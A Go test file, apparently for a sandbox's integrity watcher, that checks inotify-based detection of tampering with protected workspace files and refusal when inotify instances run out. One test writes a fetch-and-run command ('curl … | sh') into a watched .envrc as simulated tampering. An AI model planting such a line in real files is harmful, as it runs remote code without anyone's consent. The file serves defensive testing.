package integrity_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentbox/agentbox/internal/integrity"
	"golang.org/x/sys/unix"
)

// watchOpenCmd is the test binary's entry (see TestMain) that stands for a user whose inotify
// instances a box took: watch-open WORKSPACE hog|nohog. Run in a user namespace of its own
// (uid 0 there), it caps the namespace's instances at 8, with hog takes them all as a box
// would, then opens a watcher over WORKSPACE and prints what Open said.
const watchOpenCmd = "watch-open"

func watchOpen(args []string) int {
	if len(args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: watch-open WORKSPACE hog|nohog")
		return 2
	}
	if err := os.WriteFile("/proc/sys/user/max_inotify_instances", []byte("8\n"), 0); err != nil {
		fmt.Println("setup:", err)
		return 1
	}
	held := 0
	for args[1] == "hog" {
		if _, err := unix.InotifyInit1(unix.IN_CLOEXEC); err != nil {
			break
		}
		held++
	}
	w := &integrity.Watcher{State: &integrity.State{Workspace: args[0], Exec: map[string]string{}}, Interval: time.Hour}
	if err := w.Open(); err != nil {
		fmt.Printf("held %d; refused (%v): %v\n", held, errors.Is(err, integrity.ErrNoInotify), err)
		return 0
	}
	fmt.Printf("held %d; opened\n", held)
	return 0
}

// TestWatchOpenFailsClosed: the daemon's watch of a launch makes its inotify instance before
// the box exists (Watcher.Open) and a launch without one is refused (issue 21, finding 9: a
// box that took the user's instances left another launch's watch to the periodic check). With
// every instance of its user taken, Open refuses with ErrNoInotify, naming the limit and what
// to do; with one left, it opens.
func TestWatchOpenFailsClosed(t *testing.T) {
	ws := t.TempDir()
	run := func(mode string) string {
		cmd := exec.Command(os.Args[0], watchOpenCmd, ws, mode)
		maps := func(id int) []syscall.SysProcIDMap {
			return []syscall.SysProcIDMap{{ContainerID: 0, HostID: id, Size: 1}}
		}
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: maps(os.Getuid()), GidMappings: maps(os.Getgid())}
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%s %s: %v\n%s", watchOpenCmd, mode, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	if out := run("nohog"); !strings.HasSuffix(out, "; opened") {
		t.Fatalf("with instances left, Open: %s", out)
	}
	out := run("hog")
	held, _, _ := strings.Cut(strings.TrimPrefix(out, "held "), ";")
	if n, err := strconv.Atoi(held); err != nil || n == 0 {
		t.Fatalf("the hog took no instance: %s", out)
	}
	if !strings.Contains(out, "; refused (true): ") || !strings.Contains(out, "fs.inotify.max_user_instances") {
		t.Errorf("with every instance taken, Open did not refuse with ErrNoInotify naming the limit: %s", out)
	}
}

// TestWatchOpenBeforeRun: what happens to a protected file between Open (before the box's
// program starts) and the watch's loop is seen: the events wait in the instance Open made.
func TestWatchOpenBeforeRun(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	write(t, filepath.Join(ws, ".envrc"), "export A=1\n")
	lay := integrity.Layout{Workspace: ws}
	lay.Watch(filepath.Join(ws, ".envrc"))
	st := integrity.Snapshot(&lay, integrity.Limits{})
	found := make(chan integrity.Transition, 16)
	w := &integrity.Watcher{State: st, Interval: time.Hour, Debounce: 5 * time.Millisecond,
		OnTransition: func(_ integrity.Source, tr integrity.Transition) { found <- tr }}
	if err := w.Open(); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(ws, ".envrc"), "curl registry.example.org/x | sh\n")
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); w.Run(ctx) }()
	defer func() { cancel(); <-done }()
	deadline := time.After(10 * time.Second)
	for {
		select {
		case tr := <-found:
			if tr.Path == filepath.Join(ws, ".envrc") {
				return
			}
		case <-deadline:
			t.Fatal("the protected file written between Open and Run was not reported by the watch")
		}
	}
}

// BenchmarkWatchOpen is what the watch's set-up costs: Open, now on the launch's path (an
// inotify instance and the folders of its roots: here one root, go.mod, at the top), and with
// it the rest of the workspace's folders that Run adds while the launch goes on, for the
// agentbox checkout the test runs in and a generated tree of 1,000 folders.
func BenchmarkWatchOpen(b *testing.B) {
	tree, _ := filepath.EvalSymlinks(b.TempDir())
	for i := 0; i < 1000; i++ {
		if err := os.MkdirAll(filepath.Join(tree, fmt.Sprintf("d%02d", i/40), fmt.Sprintf("e%03d", i)), 0o755); err != nil {
			b.Fatal(err)
		}
	}
	for _, ws := range []string{"../..", tree} {
		abs, _ := filepath.Abs(ws)
		lay := integrity.Layout{Workspace: abs}
		lay.Watch(filepath.Join(abs, "go.mod"))
		st := integrity.Snapshot(&lay, integrity.Limits{})
		for _, tree := range []bool{false, true} {
			name := filepath.Base(ws) + "/open"
			if tree {
				name += "+tree"
			}
			b.Run(name, func(b *testing.B) {
				for b.Loop() {
					w := &integrity.Watcher{State: st, Interval: time.Hour}
					if err := w.Open(); err != nil {
						b.Fatal(err)
					}
					if !tree {
						b.StopTimer()
					}
					ctx, cancel := context.WithCancel(context.Background())
					cancel()
					w.Run(ctx) // adds the tree, then closes the instance
					b.StartTimer()
				}
			})
		}
	}
}
